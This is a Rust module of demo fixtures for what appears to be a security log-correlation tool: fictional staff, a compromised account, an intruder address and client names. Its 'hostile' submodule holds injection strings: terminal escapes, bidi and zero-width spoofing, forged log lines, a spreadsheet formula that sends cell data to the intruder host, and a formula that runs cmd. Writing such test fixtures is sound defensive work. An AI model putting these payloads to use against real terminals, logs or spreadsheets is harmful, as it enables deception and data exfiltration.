//! Who acts in the demo world, from where and with what: the same people, keys and addresses at all
//! five systems, so that one search finds a trail through all of them.
//!
//! Addresses are of the blocks that RFC 5737 and RFC 3849 keep for documentation, or private ones.

/// Somebody who works at the organisation.
#[derive(Debug)]
pub(super) struct Person {
    /// The name that all five systems know the person by.
    pub(super) name: &'static str,
    /// The e-mail address.
    pub(super) email: &'static str,
    /// The person's number at the certificate authority.
    pub(super) number: i64,
    /// Where the person works from.
    pub(super) ip: &'static str,
    /// The person's browser.
    pub(super) browser: &'static str,
    /// How much the person does.
    pub(super) busy: u64,
}

const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:150.0) Gecko/20100101 Firefox/150.0";
const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/148.0.0.0 Safari/537.36";
const SAFARI: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.0 Safari/605.1.15";

macro_rules! person {
    ($name:literal, $number:literal, $ip:literal, $browser:expr, $busy:literal) => {
        Person {
            name: $name,
            email: concat!($name, "@northwind.example"),
            number: $number,
            ip: $ip,
            browser: $browser,
            busy: $busy,
        }
    };
}

/// The people. The first runs the place, the second is the one whose password was guessed.
pub(super) const PEOPLE: [Person; 9] = [
    person!("mara.lindqvist", 1, "198.51.100.11", FIREFOX, 6),
    person!("devon.reyes", 7, "198.51.100.27", CHROME, 4),
    person!("tomasz.wójcik", 2, "198.51.100.14", FIREFOX, 9),
    person!("田中愛子", 3, "2001:db8:40::1f", SAFARI, 8),
    person!("priya.raman", 4, "198.51.100.19", CHROME, 7),
    person!("lars.østergård", 5, "198.51.100.22", CHROME, 5),
    person!("noor.haddad", 6, "2001:db8:40::2b", SAFARI, 5),
    person!("joão.silva", 8, "198.51.100.31", CHROME, 3),
    person!("grace.o'malley", 9, "192.0.2.140", FIREFOX, 2),
];

/// The administrator.
pub(super) const ADMIN: &Person = &PEOPLE[0];
/// The person whose account was taken.
pub(super) const VICTIM: &Person = &PEOPLE[1];

/// The address that the intruder came from.
pub(super) const INTRUDER_IP: &str = "203.0.113.66";
/// The intruder's client where it sends one.
pub(super) const INTRUDER_AGENT: &str = "python-requests/2.32.5";

/// The user agents that the test system's clients really send, the name that the dashboard has for
/// each, and how many stations use it.
pub(super) const CLIENTS: [(&str, &str, u64); 8] = [
    ("speakeasy-sdk/python 2.2.4 2.657.1 2.0.0 tofupilot.v2", "Python", 10),
    ("tofupilot-python/2.1", "Python", 4),
    ("tofupilot-sdk/csharp 2.0.3 2.657.1 2.0.0 TofuPilot", "C#", 4),
    ("tofupilot-rust/2.1.5", "Rust", 2),
    ("tofupilot-cpp/2.0.2", "C++", 2),
    ("tofupilot-matlab/2.5.0", "MATLAB", 1),
    ("curl/8.14.1", "HTTP", 1),
    ("tofupilot-cli/0.9.2", "CLI", 0),
];
/// The command-line client, as people use it.
pub(super) const CLI: (&str, &str) = (CLIENTS[7].0, CLIENTS[7].1);

/// How many test stations there are.
pub(super) const STATIONS: u64 = 24;
/// The station whose firmware sends what the server cannot take.
pub(super) const NOISY_STATION: u64 = 17;

/// Names and texts that try to deceive whoever reads them.
pub(super) mod hostile {
    /// Sets a terminal's title and colours, were it printed as it is.
    pub(in crate::demo) const ESCAPES: &str = "curl/8.5.0\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31m";
    /// Reads as another name than it is.
    pub(in crate::demo) const BIDI: &str = "station-\u{202e}71-noitats\u{202c}";
    /// Runs in a spreadsheet.
    pub(in crate::demo) const FORMULA: &str = "=HYPERLINK(\"http://203.0.113.66/?\"&A1,\"open\")";
    /// Looks like `admin`, and is not.
    pub(in crate::demo) const ZERO_WIDTH: &str = "ad\u{200b}min\u{feff}";
    /// A line feed and a tab, to forge a second line of a log.
    pub(in crate::demo) const LINES: &str = "guest\nlogin_success\tadmin";
    /// Old controls of eight-bit terminals.
    pub(in crate::demo) const C1: &str = "report\u{9b}31m\u{85}final.pdf";
    /// A formula by its sign alone.
    pub(in crate::demo) const MINUS: &str = "-2+3+cmd|' /C calc'!A0";
}
